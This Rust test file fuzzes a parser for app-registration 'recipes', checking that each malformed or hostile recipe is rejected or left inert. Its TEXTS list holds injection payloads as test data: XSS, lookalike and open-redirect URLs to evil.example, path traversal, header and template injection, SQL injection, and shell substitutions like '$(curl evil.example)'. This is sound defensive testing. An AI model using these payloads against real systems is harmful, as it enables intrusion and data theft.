//! Recipes of somebody who means harm: none passes, or what comes of it is inert.

use client_registrar::{
    directory::{characters::hides_something, cloud::Cloud, ids::RunTail, severity::Severity},
    recipe::{MAX_DEPTH, MAX_LENGTH, Recipe, problem::Mistake},
    registration::{problem::ProblemKind, share, validate::problems},
    words,
};
use rand::{Rng as _, SeedableRng as _, rngs::StdRng, seq::IndexedRandom as _};
use serde_json::{Value, json};
use time::macros::datetime;

use super::{examples::with, schema::Schema};

/// Texts that mean something elsewhere.
const TEXTS: [&str; 24] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "https://login.microsoftonline.com.evil.example/",
    "https://login.microsoftonline.com@evil.example/cb",
    "https://evil.example\\@contoso.com/",
    "//evil.example",
    "../../config.json",
    "..%2f..%2fconfig.json",
    "\u{202e}moc.osotnoc",
    "Microsoft\u{200b} Graph",
    "a\u{0}b",
    "a\r\nSet-Cookie: x=y",
    "a\u{2028}b",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}",
    "{team}{team}{team}{team}",
    "%00",
    "' OR 1=1 --",
    "$(curl evil.example)",
    "`id`",
    "\u{e0041}\u{e0042}",
];

/// Where a text can stand.
fn places() -> Vec<fn(Value) -> Value> {
    vec![
        |text| json!({ "title": text }),
        |text| json!({ "description": text }),
        |text| json!({ "from": text }),
        |text| json!({ "displayName": text }),
        |text| json!({ "serviceManagementReference": text }),
        |text| json!({ "notes": text }),
        |text| json!({ "signInAudience": text }),
        |text| json!({ "redirectUris": [text] }),
        |text| json!({ "permissions": [{ "permission": text }] }),
        |text| json!({ "permissions": [{ "permission": "Microsoft Graph/User.Read", "why": text }] }),
        |text| json!({ "permissions": [{ "permission": "4a1f2f0e-6f3e-4a0f-9d0b-2f6f2d0a7b11/x", "apiName": text }] }),
        |text| json!({ "credentials": { "kinds": ["secret"], "secrets": [{ "description": text }] } }),
        |text| json!({ "credentials": { "kinds": ["federated"], "federated": [{ "issuer": text, "subject": "x" }] } }),
        |text| json!({ "credentials": { "kinds": ["federated"], "federated": [{ "issuer": "https://a.b", "subject": text }] } }),
        |text| json!({ "nextSteps": [{ "text": text }] }),
        |text| json!({ "nextSteps": [{ "text": "x", "link": text }] }),
        |text| json!({ "displayName": "{team}", "questions": [{ "id": "team", "label": text }] }),
        |text| json!({ "displayName": "{team}", "questions": [{ "id": "team", "label": "x", "suggested": text }] }),
        |text| json!({ "displayName": "{team}", "questions": [{ "id": text, "label": "x" }] }),
        |text| json!({ "authority": text, "tenant": text, "clientId": text, "scopes": [text], "step": text }),
    ]
}

/// What comes of a recipe that passes: data, marked, with nothing that counts before it was ticked.
fn is_inert(text: &str) {
    let Ok((recipe, _)) = Recipe::parse(text) else { return };
    let answers: Vec<String> = recipe.questions.iter().map(|_| "a".to_owned()).collect();
    let Ok(shared) = recipe.propose(&answers) else { return };
    let fragment = shared.to_fragment().expect("it fits a link");
    let again = share::from_fragment(&fragment).unwrap_or_else(|why| panic!("{why}: {text}"));
    assert_eq!(again, shared, "it survives the way to Microsoft and back: {text}");
    let draft = shared.into_draft(RunTail::from_random([1; 8]));
    let errors: Vec<_> = problems(&draft, Cloud::Global, datetime!(2026-12-01 10:00:00 UTC))
        .into_iter()
        .filter(|problem| problem.kind.severity() == Severity::Error)
        .collect();
    let unticked = errors.iter().filter(|problem| problem.kind.awaits_look()).count();
    let uris = draft.redirect_uris.iter().filter(|row| !row.text.is_empty()).count();
    let waiting = uris + draft.permissions.len() + draft.federated().count();
    assert!(unticked >= waiting, "each redirect URI, permission and trust waits for its tick: {text}");
    assert!(draft.wanted_grants().is_empty() && !draft.grant_consent, "{text}");
    assert!(
        draft.content(Cloud::Global, datetime!(2026-12-01 10:00:00 UTC)).permissions.is_empty(),
        "no permission has an ID: {text}"
    );
    for problem in errors {
        for says in words::form::problem::BY_STEP {
            let said = words::form::problem::in_list(&problem, says);
            assert!(!said.contains('\u{202e}') && !said.contains('\n'), "{said}");
        }
        assert!(problem.kind != ProblemKind::FromLink);
    }
    if let Some(note) = &draft.from_link.recipe {
        let texts = note.next_steps.iter().map(|step| step.text.as_str()).chain([note.title.as_str()]);
        assert!(texts.clone().all(|text| !hides_something(text)), "{text}");
        let links = note.next_steps.iter().filter_map(|step| step.link.as_ref());
        assert!(links.clone().all(|link| link.as_str().starts_with("https://")), "{text}");
    }
}

#[test]
fn a_text_that_means_something_elsewhere_means_nothing_here() {
    let mut count = 0;
    for place in places() {
        for hostile in TEXTS {
            is_inert(&with(&place(json!(hostile))).to_string());
            count += 1;
        }
        for odd in [json!(null), json!([]), json!({}), json!(-1), json!(true), json!(1e308), json!([[[[]]]])] {
            is_inert(&with(&place(odd)).to_string());
            count += 1;
        }
    }
    assert!(count > 500, "{count}");
}

#[test]
fn nothing_that_decides_where_the_page_goes_can_be_said() {
    let schema = [
        "authority",
        "tenant",
        "tenantId",
        "clientId",
        "scope",
        "scopes",
        "cloud",
        "config",
        "step",
        "state",
        "redirect",
    ];
    for key in schema {
        let recipe = with(&json!({ key: "https://evil.example" })).to_string();
        let (recipe, warnings) = Recipe::parse(&recipe).expect("the rest is used");
        assert_eq!(warnings.len(), 1, "{key}");
        let fragment = recipe.propose(&[]).expect("a draft").to_fragment().expect("a link");
        assert_eq!(warnings[0].mistake, Mistake::UnknownKey);
        let plain = Recipe::parse(&with(&json!({})).to_string()).expect("a recipe").0;
        assert_eq!(fragment, plain.propose(&[]).expect("a draft").to_fragment().expect("a link"), "{key}");
    }
}

fn mistake(text: &str) -> Mistake {
    Recipe::parse(text).expect_err("a mistake")[0].mistake
}

#[test]
fn size_and_depth_are_bounded_before_anything_is_read() {
    assert_eq!(mistake(&" ".repeat(MAX_LENGTH + 1)), Mistake::TooLarge);
    let deep = |levels: usize| [&"[".repeat(levels), &"]".repeat(levels)].map(String::as_str).concat();
    assert_eq!(mistake(&deep(MAX_DEPTH + 1)), Mistake::TooDeep);
    assert_eq!(mistake(&deep(16_000)), Mistake::TooDeep);
    assert_eq!(mistake(&"{\"a\":".repeat(5_000)), Mistake::TooDeep);
    assert_eq!(mistake(&deep(MAX_DEPTH)), Mistake::NotAnObject);
    let brackets = with(&json!({ "title": "[[[[[[[[[[[[\\\"[[[[" })).to_string();
    assert!(Recipe::parse(&brackets).is_ok(), "brackets in a text are none");
    let many = with(&json!({ "redirectUris": vec!["https://a.b"; 300] })).to_string();
    assert_eq!(mistake(&many), Mistake::TooMany { most: 256 });
}

#[test]
fn a_key_that_comes_twice_refuses_the_whole_wherever_it_stands() {
    for text in [
        "{\"recipe\":1,\"title\":\"a\",\"title\":\"b\"}",
        "{\"recipe\":1,\"title\":\"a\",\"credentials\":{\"kinds\":[],\"kinds\":[\"secret\"]}}",
        "{\"recipe\":1,\"recipe\":1,\"title\":\"a\"}",
        "{\"recipe\":1,\"title\":\"a\",\"\\u0074itle\":\"b\"}",
    ] {
        assert_eq!(mistake(text), Mistake::KeyTwice, "{text}");
    }
}

#[test]
fn what_is_cut_off_or_no_json_at_all_is_told_with_its_place() {
    let whole = with(&json!({ "questions": [{ "id": "team", "label": "Team" }], "displayName": "{team}" })).to_string();
    for end in 1..whole.len() {
        assert!(matches!(mistake(&whole[..end]), Mistake::NotJson { .. }), "{}", &whole[..end]);
    }
    for text in ["", "null", "[]", "1", "\"x\"", "<!doctype html>", "{'recipe':1}", "{\"recipe\":1,}", "\u{0}"] {
        assert!(Recipe::parse(text).is_err(), "{text}");
    }
}

/// A good recipe in which something was put in the place of something else, over and over.
#[test]
fn whatever_is_changed_in_a_recipe_it_is_refused_or_inert_and_the_schema_takes_what_the_parser_takes() {
    let schema = Schema::read();
    let whole = with(&json!({
        "description": "x",
        "questions": [{ "id": "team", "label": "Team", "format": "name", "suggested": "a" }],
        "displayName": "{team}-fhir",
        "redirectUris": ["https://{team}.contoso.com/cb"],
        "permissions": [{ "permission": "Microsoft Graph/User.Read", "why": "x" }],
        "credentials": { "kinds": ["secret", "federated"], "secrets": [{ "days": 90 }], "federated": [{ "issuer": "https://a.b", "subject": "{team}" }] },
        "nextSteps": [{ "text": "x", "link": "https://learn.microsoft.com/" }],
    }));
    let mut random = StdRng::seed_from_u64(20_261_201);
    let mut taken = 0;
    for _ in 0..6_000 {
        let mut recipe = whole.clone();
        for _ in 0..random.random_range(1..3) {
            change(&mut recipe, &mut random);
        }
        let text = recipe.to_string();
        if Recipe::parse(&text).is_ok() {
            taken += 1;
            assert!(schema.takes(&recipe), "{text}");
        }
        is_inert(&text);
    }
    assert!((300..5_700).contains(&taken), "some pass and some do not: {taken}");
}

/// Puts something in the place of one value, or takes it out.
fn change(value: &mut Value, random: &mut StdRng) {
    let odd = |random: &mut StdRng| match random.random_range(0..6) {
        0 => json!(null),
        1 => json!(random.random_range(-1..1_000)),
        2 => json!(["a"]),
        3 => json!({ "a": 1 }),
        4 => json!("plain"),
        _ => json!(*TEXTS.choose(random).expect("there are some")),
    };
    match value {
        Value::Object(members) if !members.is_empty() => {
            let key = members.keys().nth(random.random_range(0..members.len())).expect("a key").clone();
            match random.random_range(0..4) {
                0 => drop(members.remove(&key)),
                1 => drop(members.insert(key, odd(random))),
                _ => change(&mut members[&key], random),
            }
        }
        Value::Array(values) if !values.is_empty() => {
            let at = random.random_range(0..values.len());
            if random.random_range(0..3) == 0 { values[at] = odd(random) } else { change(&mut values[at], random) }
        }
        other => *other = odd(random),
    }
}
